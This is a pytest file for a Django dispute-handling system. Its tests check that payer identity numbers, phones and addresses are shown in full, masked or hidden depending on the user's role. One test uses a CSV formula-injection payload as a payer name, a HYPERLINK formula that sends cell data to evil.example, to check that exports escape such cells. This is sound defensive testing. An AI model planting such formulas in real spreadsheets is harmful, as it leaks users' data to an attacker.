"""How payers' numbers, phones and addresses show, decided by one policy (disputes.rules).

The people handling a case read them in full; other readers masked (and may reveal, logged);
the cyberspace office never sees an identity number or credit code in any form, a phone or a
street address, on any page or in any file.
"""

import csv
import io

import pytest
from django.urls import reverse

from disputes import rules
from disputes.services import PartyData, PayerData
from routing import services as routing_services
from tests.conftest import credit_code, resident_id

pytestmark = pytest.mark.django_db

ADDRESS = "古魏镇东关村东街18号"
PHONE = "13912345678"
LANDLINE = "0359-3027788"


def flagged_case(w, **kw):
    """A public-opinion case of an employee against the employer, both with full details."""
    payers = [
        PartyData(
            payer=PayerData(
                kind="employee",
                name="申请人甲",
                id_number=resident_id(501),
                phone=PHONE,
                address=ADDRESS,
                contact_person="申请人的妹妹",
            ),
            is_representative=True,
        ),
        PartyData(
            payer=PayerData(
                kind="employer",
                name="芮城县某某建材有限公司",
                id_number=credit_code(502),
                phone=LANDLINE,
                address="风陵渡镇工业园区3号",
                contact_person="财务科王某",
            ),
            side="counterparty",
        ),
    ]
    return w.make_dispute(payers=payers, is_public_opinion_risk=True, **kw)


def secrets_of(case) -> list[str]:
    """Every form in which a payer's number, phone or street address could leak."""
    out = []
    for party in case.parties.select_related("payer"):
        payer = party.payer
        out += [payer.id_number, payer.masked_id_number, payer.id_number[-4:]]
        out += [payer.phone, payer.masked_phone, payer.phone[-4:], payer.address]
    out += ["东街18号", "工业园区3号"]
    return out


def pages_of(client, case) -> dict[str, str]:
    return {
        "home": client.get(reverse("reports:home")).content.decode(),
        "list": client.get(reverse("disputes:list")).content.decode(),
        "search": client.get(reverse("disputes:list"), {"q": "申请人甲"}).content.decode(),
        "case": client.get(reverse("disputes:detail", args=[case.number])).content.decode(),
        "export": client.get(reverse("disputes:export")).getvalue().decode("utf-8-sig"),
    }


def test_the_cyberspace_office_sees_no_number_phone_or_street_address_anywhere(client, world):
    case = flagged_case(world)
    client.force_login(world.cyber)
    for name, body in pages_of(client, case).items():
        assert case.number in body, name
        for secret in secrets_of(case):
            assert secret not in body, (name, secret)
    # What it needs is there: who, what, where (the jurisdiction, not the street).
    page = pages_of(client, case)["case"]
    assert "申请人甲" in page and "芮城县某某建材有限公司" in page
    assert str(case.jurisdiction) in page


def test_the_cyberspace_office_takes_no_document_away(client, world):
    case = flagged_case(world)
    client.force_login(world.cyber)
    for kind in ("receipt", "referral_sheet", "joint_handling_sheet"):
        url = reverse("reports:document", kwargs={"number": case.number, "kind": kind})
        assert client.get(url).status_code == 403, kind


def test_a_supervisor_reads_numbers_and_phones_masked_in_lists_pages_and_the_export(client, world):
    case = flagged_case(world)
    client.force_login(world.supervisor)
    payer = case.parties.get(is_representative=True).payer
    for name, body in pages_of(client, case).items():
        assert payer.id_number not in body and PHONE not in body, name
        assert payer.masked_id_number in body, name
    assert payer.masked_phone in pages_of(client, case)["case"]


def test_the_owning_centre_reads_everything_in_full_on_the_case_page(client, world):
    case = flagged_case(world)
    client.force_login(world.clerk)
    page = client.get(reverse("disputes:detail", args=[case.number])).content.decode()
    for party in case.parties.select_related("payer"):
        assert party.payer.id_number in page and party.payer.phone in page
    assert ADDRESS in page
    # Lists and the export stay masked even for the handlers.
    listing = client.get(reverse("disputes:list")).content.decode()
    assert resident_id(501) not in listing and mask_of(resident_id(501)) in listing


def mask_of(number: str) -> str:
    return number[:4] + "*" * 10 + number[-4:]


def test_the_policy_is_one_decision_for_each_user_and_case(world):
    case = flagged_case(world)
    assert rules.number_display(case, world.clerk).level == rules.Disclosure.FULL
    assert rules.number_display(case, world.supervisor).level == rules.Disclosure.MASKED
    assert rules.number_display(case, world.cyber).level == rules.Disclosure.HIDDEN
    assert rules.number_display(None, world.clerk).level == rules.Disclosure.MASKED
    assert rules.number_display(None, world.cyber).level == rules.Disclosure.HIDDEN
    masked = rules.number_display(case, world.supervisor)
    assert masked.number(resident_id(501)) == mask_of(resident_id(501))
    assert masked.phone(PHONE) == "139****5678"
    hidden = rules.number_display(case, world.cyber)
    assert hidden.number(resident_id(501)) == "" and hidden.phone(PHONE) == ""
    assert hidden.address(ADDRESS) == ""
    # A number revealed to a supervisor shows in full for that payer only.
    payer_id = case.parties.get(is_representative=True).payer_id
    revealed = rules.number_display(case, world.supervisor, revealed={payer_id})
    assert revealed.for_payer(payer_id).level == rules.Disclosure.FULL
    assert revealed.for_payer(payer_id + 1).level == rules.Disclosure.MASKED


def test_numbers_typed_into_free_text_are_masked_or_hidden_like_the_fields(client, world):
    number = resident_id(503)
    case = flagged_case(
        world,
        claim=f"请求核实身份证号{number}的缴费记录，联系电话{PHONE}。",
        summary=f"单位统一社会信用代码{credit_code(504)}，电话{LANDLINE}。",
    )
    routing_services.dispute_classify(
        dispute=case,
        actor=world.clerk,
        classification="general",
        lead_department=world.tax,
        note=f"已电话{PHONE}联系缴费人",
    )
    client.force_login(world.cyber)
    page = client.get(reverse("disputes:detail", args=[case.number])).content.decode()
    for secret in (number, mask_of(number), credit_code(504), PHONE, "139****5678", LANDLINE):
        assert secret not in page, secret
    assert "请求核实身份证号" in page
    client.force_login(world.supervisor)
    page = client.get(reverse("disputes:detail", args=[case.number])).content.decode()
    assert number not in page and mask_of(number) in page and PHONE not in page
    client.force_login(world.clerk)
    page = client.get(reverse("disputes:detail", args=[case.number])).content.decode()
    assert number in page and PHONE in page


def test_export_cells_that_a_spreadsheet_would_run_are_written_as_text(client, world):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    payers = [
        PartyData(
            payer=PayerData(kind="employee", name=name, id_number=resident_id(505)),
            is_representative=True,
        )
    ]
    case = world.make_dispute(payers=payers)
    client.force_login(world.clerk)
    body = client.get(reverse("disputes:export")).getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    row = next(r for r in rows if r and r[0] == case.number)
    payer_cell = row[7]
    assert payer_cell.startswith("'="), payer_cell
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_paper_masks_the_numbers_in_its_fields_and_in_free_text(client, world):
    from tests.reports import pdf

    number = resident_id(506)
    case = flagged_case(world, claim=f"请求核实身份证号{number}的缴费记录，电话{PHONE}。")
    client.force_login(world.supervisor)
    url = reverse("reports:document", kwargs={"number": case.number, "kind": "receipt"})
    response = client.get(url)
    assert response.status_code == 200
    text = pdf.read(response.content).flat
    assert "请求核实身份证号" in text
    assert number not in text and PHONE not in text
    assert mask_of(number) in text and mask_of(resident_id(501)) in text
